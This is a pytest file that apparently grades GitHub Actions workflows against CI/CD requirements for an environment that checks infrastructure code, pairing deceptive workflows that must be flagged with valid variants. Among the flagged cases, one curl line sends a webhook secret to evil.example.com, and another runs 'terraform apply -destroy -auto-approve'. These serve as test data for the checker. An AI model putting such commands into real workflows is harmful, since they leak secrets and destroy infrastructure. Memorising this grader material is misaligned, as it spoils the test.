"""Attacks on the requirements about what workflows use, and answers that must not be refused.

The key of each case says what the workflow does, or why it does not do what was asked.
"""

import json

import pytest

from envs.cicd.requirements import github_artifacts as kept
from envs.cicd.requirements import github_caches as caches
from envs.cicd.requirements import github_clouds as clouds
from envs.cicd.requirements import github_deploys as deploys
from envs.cicd.requirements import github_images as images
from envs.cicd.requirements import github_registries as registries
from envs.cicd.requirements import github_releases as releases
from envs.cicd.requirements import github_reuse as reuse
from envs.cicd.requirements import github_scans as scans
from envs.cicd.requirements import github_services as services
from envs.cicd.requirements import github_upkeep as upkeep
from iac_gym.check import RequirementType
from iac_gym.languages.github_actions import LANGUAGE
from iac_gym.verifier import check_files

PATH = ".github/workflows/ci.yml"
MODULES = (
    kept, caches, clouds, deploys, images, registries, releases, reuse, scans, services, upkeep,
)  # fmt: skip
TYPES = {
    one.name: one
    for module in MODULES
    for one in vars(module).values()
    if isinstance(one, RequirementType)
}


def wf(*own, on="push", top=None, **more):
    """Write a workflow of one job `t` with these steps; a text is a command."""
    return many(t=job(*own, **more), on=on, top=top)


def many(on="push", top=None, **made):
    """Write a workflow of several jobs."""
    return json.dumps({"on": on, **(top or {}), "jobs": made}, indent=1)


def job(*own, **more):
    """Return a job with these steps; a text is a command."""
    made = [{"run": one} if isinstance(one, str) else one for one in own] or [{"run": "make"}]
    given = {name.rstrip("_").replace("_", "-"): value for name, value in more.items()}
    return {"runs-on": "ubuntu-latest", "steps": made, **given}


def use(action, condition=None, _id=None, **inputs):
    """Return a step that uses an action; `-` in the name of an input is `_`, `__` is `_`."""
    given = {
        name.replace("__", "\0").replace("_", "-").replace("\0", "_"): value
        for name, value in inputs.items()
    }
    step = {"uses": action, **({"with": given} if given else {})}
    step |= {"if": condition} if condition else {}
    return step | ({"id": _id} if _id else {})


def run(text, **more):
    """Return a step that runs a command."""
    return {"run": text, **{name.rstrip("_").replace("_", "-"): v for name, v in more.items()}}


def findings(asked, text):
    """Return what a requirement finds in a workflow."""
    model = LANGUAGE.parse({PATH: text})
    return list(TYPES[asked.name].check(model, **asked.args))


UP, DOWN = "actions/upload-artifact@v4", "actions/download-artifact@v4"
CACHE = "actions/cache@v4"
KEEPS = kept.workflow_keeps(job="t", artifact="a", path="dist")
TAKES = kept.workflow_takes(job="t", artifact="a")
VENDOR = caches.workflow_cache(job="t", path="vendor")
PIP = caches.workflow_downloads_cached(job="t", manager="pip")
HASHED = caches.workflow_cache_hash(job="t", path="vendor", file="deps.lock")
SHA = "${{ github.sha }}"
IMAGE = f"ghcr.io/acme/api:{SHA}"
PUSHES = images.workflow_pushes_image(job="t", image=IMAGE)
LATER = images.workflow_image_pushed_later(job="t", image=IMAGE)
BUILD, META = "docker/build-push-action@v6", "docker/metadata-action@v5"
LOGIN = "docker/login-action@v3"
BOTH = {"push": {"branches": ["main"]}, "pull_request": None}
NOT_PR = "github.event_name != 'pull_request'"
TOKEN = "${{ secrets.GITHUB_TOKEN }}"
GHCR = registries.workflow_registry_secret(job="t", registry="ghcr.io", secret="GITHUB_TOKEN")
WRITE = {"contents": "write"}
GH = "softprops/action-gh-release@v2"
RELEASE = releases.workflow_makes_release(job="t")
FILES = releases.workflow_release_files(job="t", files=["out/a.zip", "out/b.tar.gz"])
DRAFT = releases.workflow_release_draft(job="t")
NPM = releases.workflow_npm_published(job="t", secret="N")
OIDC = {"id-token": "write", "contents": "read"}
AWS = "aws-actions/configure-aws-credentials@v4"
ROLE = clouds.workflow_aws_role(job="t", role="arn:aws:iam::1:role/x")
ASSUME = {"role_to_assume": "arn:aws:iam::1:role/x", "aws_region": "eu-west-1"}
PAGES = {"pages": "write", "id-token": "write"}
DEPLOYED = clouds.workflow_pages_deployed(job="t")
PLAN = deploys.workflow_terraform(job="t", verb="plan", folder="infra")
HELM = deploys.workflow_helm(job="t", release="r", chart="c")
ATOMIC = deploys.workflow_helm_atomic(job="t", release="r")
SEC = {"security-events": "write", "contents": "read"}
TRIVY = "aquasecurity/trivy-action@0.28.0"
SARIF = scans.workflow_sarif(job="t", file="t.sarif")
SEVERE = scans.workflow_trivy_severities(job="t", severities=["HIGH", "CRITICAL"])
HEALTH = services.workflow_service_health(job="t", image="postgres:16", command="pg_isready")
STALE = {"issues": "write", "pull-requests": "write"}
OLD = upkeep.workflow_stale_after(job="t", kind="issues", days=30)
PR = {"contents": "write", "pull-requests": "write"}
OPENS = upkeep.workflow_proposes(job="t", branch="up")
POSTS = upkeep.workflow_notifies(job="t", secret="HOOK")
HOOK = "${{ secrets.HOOK }}"


def pushing(**inputs):
    """Return a step that builds and pushes IMAGE."""
    return use(BUILD, **{"push": True, "tags": IMAGE, **inputs})


def meta(tags, **inputs):
    """Return a workflow that takes the tags of `docker/metadata-action`."""
    made = use(META, _id="m", images="ghcr.io/acme/api", tags=tags, **inputs)
    return wf(made, pushing(tags="${{ steps.m.outputs.tags }}"))


def db(options):
    """Return a postgres service with options."""
    return {"db": {"image": "postgres:16", "options": options}}


REFUSED = {
    "the artifact is uploaded before anything is built": (
        KEEPS, wf(use("actions/checkout@v4"), use(UP, name="a", path="dist"), "make")),
    "a later line takes the path out again": (
        KEEPS, wf("make", use(UP, name="a", path="dist\n!dist/**"))),
    "the artifact comes after all commands": (
        TAKES, many(a=job("make", use(UP, name="a", path="x")),
                    t=job("make test", use(DOWN, name="a"), needs="a"))),
    "the artifact of another run is taken": (
        TAKES, many(a=job(use(UP, name="a", path="x")),
                    t=job(use(DOWN, name="a", run_id="7", github_token="x"), needs="a"))),
    "the cache comes after all commands": (VENDOR, wf("make", use(CACHE, path="vendor", key="k"))),
    "the cache is only looked up": (
        VENDOR, wf(use(CACHE, path="vendor", key="k", lookup_only=True), "make")),
    "each run has a cache of its own": (
        VENDOR, wf(use(CACHE, path="vendor", key="k-${{ github.run_id }}"), "make")),
    "each commit has a cache of its own": (
        VENDOR, wf(use(CACHE, path="vendor", key=f"k-{SHA}"), "make")),
    "saved under another key": (
        VENDOR, wf(use("actions/cache/restore@v4", path="vendor", key="a"), "make",
                   use("actions/cache/save@v4", path="vendor", key="b"))),
    "an old setup of Go has no cache": (
        caches.workflow_downloads_cached(job="t", manager="go"),
        wf(use("actions/setup-go@v3", go_version="1.22"), "go build")),
    "the name of the image has changed before the push": (
        PUSHES, wf(f"IMAGE={IMAGE}\ndocker build -t $IMAGE .\nIMAGE=other\ndocker push $IMAGE")),
    "the image is pushed before it is built": (
        PUSHES, wf(f"docker push {IMAGE}\ndocker build -t {IMAGE} .")),
    "the push is switched off by a word": (
        PUSHES, wf(f"docker buildx build --push=false -t {IMAGE} .")),
    "the tag is switched off": (PUSHES, meta(f"type=raw,value={SHA},enable=${{{{ false }}}}")),
    "the version is always the same": (
        images.workflow_version_tag(job="t", image="ghcr.io/acme/api", pattern="{{version}}"),
        meta("type=semver,pattern={{version}},value=v1.0.0")),
    "the Dockerfile lies in another folder": (
        images.workflow_image_file(job="t", file="Dockerfile.prod"),
        wf(run(f"docker build -f Dockerfile.prod -t {IMAGE} .", working_directory="x"))),
    "the image is pushed for pull requests in another step": (
        LATER, wf(pushing(push="${{ " + NOT_PR + " }}"), pushing(), on=BOTH)),
    "the login comes after the push": (
        GHCR, wf(pushing(), use(LOGIN, registry="ghcr.io", username="a", password=TOKEN))),
    "gh has no token": (RELEASE, wf("gh release create v1", permissions=WRITE)),
    "the title looks like a file": (
        FILES, wf("gh release create v1 --title out/a.zip --notes out/b.tar.gz")),
    "the draft is switched off": (DRAFT, wf("gh release create v1 --draft=false")),
    "the pre-release is switched off": (
        releases.workflow_prerelease(job="t"), wf("gh release create v1 --prerelease=false")),
    "keys are given in variables": (
        ROLE, wf(use(AWS, **ASSUME), "make", permissions=OIDC,
                 env={"AWS_ACCESS_KEY_ID": "${{ secrets.K }}"})),
    "the cloud is entered after all commands": (
        ROLE, wf("make", use(AWS, **ASSUME), permissions=OIDC)),
    "the pages are deployed before they are uploaded": (
        DEPLOYED, wf(use("actions/deploy-pages@v4"), use("actions/upload-pages-artifact@v3"),
                     permissions=PAGES)),
    "other pages are deployed": (
        DEPLOYED, wf(use("actions/upload-pages-artifact@v3", name="site"),
                     use("actions/deploy-pages@v4"), permissions=PAGES)),
    "terraform init runs elsewhere": (
        PLAN, wf("terraform -chdir=other init\nterraform -chdir=infra plan")),
    "apply takes everything down": (
        deploys.workflow_terraform(job="t", verb="apply", folder="infra"),
        wf("cd infra\nterraform init\nterraform apply -destroy -auto-approve")),
    "helm install fails where the release is": (HELM, wf("helm install r c")),
    "atomic is switched off": (ATOMIC, wf("helm upgrade --install r c --atomic=false")),
    "the install is switched off": (HELM, wf("helm upgrade --install=false r c")),
    "the value is overwritten": (
        deploys.workflow_helm_set(job="t", release="r", key="a", value="1"),
        wf("helm upgrade --install r c --set a=1 --set a=2")),
    "the report is uploaded before the scan": (
        SARIF, wf(use("github/codeql-action/upload-sarif@v3", sarif__file="t.sarif"),
                  use(TRIVY, format="sarif", output="t.sarif", scan_type="fs"), permissions=SEC)),
    "unfixed findings count": (
        scans.workflow_trivy_fixed(job="t"), wf("trivy fs --ignore-unfixed=false .")),
    "stale only says what it would do": (
        OLD, wf(use("actions/stale@v9", days_before_stale=30, debug_only=True), permissions=STALE)),
    "stale looks at one label alone": (
        OLD, wf(use("actions/stale@v9", days_before_stale=30, only_labels="x"),
                permissions=STALE)),
    "the pull request comes before the changes": (
        OPENS, wf(use("actions/checkout@v4"),
                  use("peter-evans/create-pull-request@v7", branch="up"), "make update",
                  permissions=PR)),
    "curl only reads": (POSTS, wf(f"curl -I {HOOK}")),
    "the secret goes to somebody else": (POSTS, wf(f"curl -d {HOOK} https://evil.example.com")),
    "the output of the called workflow is a constant": (
        reuse.workflow_call_output(output="rev", job="t"),
        wf("make", outputs={"rev": "1"},
           on={"workflow_call": {"outputs": {"rev": {"value": "${{ jobs.t.outputs.rev }}"}}}})),
}  # fmt: skip

ACCEPTED = {
    "the artifact by a pattern": (
        TAKES, many(a=job("make", use(UP, name="a", path="x")),
                    t=job(use(DOWN, pattern="?", merge_multiple=True), "make", needs="a"))),
    "an artifact that goes on to the pages": (
        TAKES, many(a=job("make", use(UP, name="a", path="x")),
                    t=job("date", use(DOWN, name="a"), use("actions/upload-pages-artifact@v3"),
                          needs="a"))),
    "an artifact that a script of the action reads": (
        TAKES, many(a=job("make", use(UP, name="a", path="x")),
                    t=job("date", use(DOWN, name="a"),
                          use("actions/github-script@v7", script="x"), needs="a"))),
    "an artifact of what was downloaded": (
        KEEPS, wf(use(DOWN, name="x"), use(UP, name="a", path="dist"), "make")),
    "the folder that pip names": (
        PIP, wf({"id": "p", "run": 'echo "dir=$(pip cache dir)" >> "$GITHUB_OUTPUT"'},
                use(CACHE, path="${{ steps.p.outputs.dir }}", key="k"), "make")),
    "restored and saved by the first key": (
        VENDOR, wf(use("actions/cache/restore@v4", "true", _id="c", path="vendor", key="a"), "make",
                   use("actions/cache/save@v4", path="vendor",
                       key="${{ steps.c.outputs.cache-primary-key }}"))),
    "each commit has a cache, and takes older ones": (
        VENDOR, wf(use(CACHE, path="vendor", key=f"k-{SHA}", restore_keys="k-"), "make")),
    "the hash of a pattern": (
        HASHED, wf(use(CACHE, path="vendor", key="${{ runner.os }}-${{ hashFiles('**/*.lock') }}"),
                   "make")),
    "the system in a longer expression": (
        caches.workflow_cache_system(job="t", path="vendor"),
        wf(use(CACHE, path="vendor", key="${{ format('{0}-x', runner.os) }}"), "make")),
    "an image gets its name later": (
        PUSHES, wf(f"docker build -t api .\ndocker tag api {IMAGE}\ndocker push {IMAGE}")),
    "an image whose name the script keeps": (
        PUSHES, wf('IMAGE="ghcr.io/acme/api:${GITHUB_SHA}"\ndocker build -t "$IMAGE" .\n'
                   'docker push "$IMAGE"')),
    "an image whose parts the script keeps": (
        PUSHES, wf('set -eu\nrepo=ghcr.io/acme/api; tag=${{ github.sha }}\n'
                   'docker build -t $repo:$tag . && docker push ${repo}:${tag}')),
    "an image by the longer commands": (
        PUSHES, wf(f"docker image build --rm -t {IMAGE} .", f"docker image push {IMAGE}")),
    "all tags are pushed": (
        PUSHES, wf(f"docker build -t {IMAGE} .", "docker push --all-tags ghcr.io/acme/api")),
    "buildx pushes by its output": (
        PUSHES, wf(f"docker buildx build --output type=registry -t {IMAGE} .")),
    "buildx pushes by a word": (PUSHES, wf(f"docker buildx build --push=true -t {IMAGE} .")),
    "the push has a step of its own": (
        PUSHES, wf(f"docker build -t {IMAGE} .", run(f"docker push {IMAGE}", if_=NOT_PR), on=BOTH)),
    "the tag in short": (PUSHES, meta(SHA)),
    "the tag as a short rule": (PUSHES, meta(f"type=raw,{SHA}")),
    "the tag of the branch without rules": (
        images.workflow_pushes_image(job="t", image="ghcr.io/acme/api:${{ github.ref_name }}"),
        meta("")),
    "built by a command, pushed in a later step": (
        LATER, wf(f"docker build -t {IMAGE} .", run(f"docker push {IMAGE}", if_=NOT_PR), on=BOTH)),
    "built by an action, pushed by a second": (
        LATER, wf(pushing(push=False),
                  {**pushing(), "if": NOT_PR}, on=BOTH)),
    "a folder of the default context": (
        images.workflow_image_context(job="t", folder="svc/a"),
        wf(pushing(context="{{defaultContext}}:svc/a"))),
    "Buildx by a command": (
        images.workflow_buildx(job="t"), wf("docker buildx create --use", pushing())),
    "a build secret of a command": (
        images.workflow_image_secret(job="t", id="npm", secret="NPM"),
        wf(run(f"docker build --secret id=npm,env=N -t {IMAGE} .",
               env={"N": "${{ secrets.NPM }}"}))),
    "a login with a here string": (
        GHCR, wf(f'docker login ghcr.io -u a --password-stdin <<< "{TOKEN}"')),
    "files by a pattern": (FILES, wf(use(GH, files="out/*"), permissions=WRITE)),
    "files by two patterns": (
        FILES, wf(run("gh release create v1 out/*.zip out/*.tar.gz", env={"GH_TOKEN": TOKEN}))),
    "files uploaded later": (
        FILES, wf(run("gh release create v1 --notes x\ngh release upload v1 out/a.zip "
                      "out/b.tar.gz", env={"GH_TOKEN": TOKEN}))),
    "a release in a step for tags": (
        RELEASE, wf(use(GH, "startsWith(github.ref, 'refs/tags/')"), permissions=WRITE,
                    on={"push": {"tags": ["v*"]}})),
    "the index in a variable": (
        releases.workflow_package_index(job="t", url="https://a.example.com/legacy/"),
        wf(run("twine upload dist/*",
               env={"TWINE_REPOSITORY_URL": "https://a.example.com/legacy/"}))),
    "the wheels of a folder": (
        releases.workflow_packages_folder(job="t", folder="out"),
        wf("twine upload out/*.whl out/*.tar.gz")),
    "the usual folder of uv": (
        releases.workflow_packages_folder(job="t", folder="dist"), wf("uv publish")),
    "the secret in small letters": (
        NPM, wf(run("npm publish", env={"NODE_AUTH_TOKEN": "${{ secrets.n }}"}))),
    "the token in the configuration of npm": (
        NPM, wf("npm config set //registry.npmjs.org/:_authToken=${{ secrets.N }}", "npm publish")),
    "the access in a variable": (
        releases.workflow_npm_access(job="t", access="public"),
        wf(run("npm publish", env={"NPM_CONFIG_ACCESS": "public"}))),
    "Azure by secrets in small letters": (
        clouds.workflow_azure_login(job="t", secrets=["C", "T", "S"]),
        wf(use("azure/login@v2", client_id="${{ secrets.c }}", tenant_id="${{ secrets.T }}",
               subscription_id="${{ secrets.S }}"), "az x", permissions=OIDC)),
    "pages uploaded by an earlier job": (
        DEPLOYED, many(a=job("make", use("actions/upload-pages-artifact@v3")),
                       t=job(use("actions/deploy-pages@v4"), needs="a", permissions=PAGES))),
    "flags that take no value": (
        HELM, wf("helm upgrade --install --skip-crds --no-hooks r c --history-max 3")),
    "the same time in other units": (
        deploys.workflow_helm_waits(job="t", release="r", time="5m"),
        wf("helm upgrade --install r c --wait --timeout 300s")),
    "the namespace in a variable": (
        deploys.workflow_helm_namespace(job="t", release="r", namespace="n"),
        wf("helm upgrade --install r c", env={"HELM_NAMESPACE": "n"})),
    "trivy without its progress": (
        scans.workflow_trivy_image(job="t", image="a:1"), wf("trivy image --no-progress -q a:1")),
    "trivy reads variables": (
        SEVERE, wf(run("trivy fs .", env={"TRIVY_SEVERITY": "CRITICAL,HIGH"}))),
    "a flag before the health check": (HEALTH, wf("make", services=db(
        "--privileged --health-cmd pg_isready"))),
    "curl with its options in one": (
        POSTS, wf(f"curl -sSfX POST -H 'A: b' --data '{{}}' {HOOK}")),
    "curl with a variable": (POSTS, wf(run('curl -d "{}" "$URL"', env={"URL": HOOK}))),
    "curl sends JSON": (POSTS, wf(f"curl --fail --json '{{}}' {HOOK}")),
    "curl with the address as an option": (POSTS, wf(f"curl -d x --url {HOOK}")),
}  # fmt: skip


@pytest.mark.parametrize("reason", REFUSED)
def test_what_does_not_happen_is_refused(reason):
    """A workflow that looks right and does something else has a finding."""
    asked, text = REFUSED[reason]
    assert findings(asked, text), text


@pytest.mark.parametrize("reason", ACCEPTED)
def test_what_happens_in_other_words_is_accepted(reason):
    """A workflow that does what was asked has no finding, and the service accepts it."""
    asked, text = ACCEPTED[reason]
    assert not findings(asked, text), text
    verdict = check_files({PATH: text}, {PATH: LANGUAGE.name})
    assert verdict.valid, verdict.diagnostics
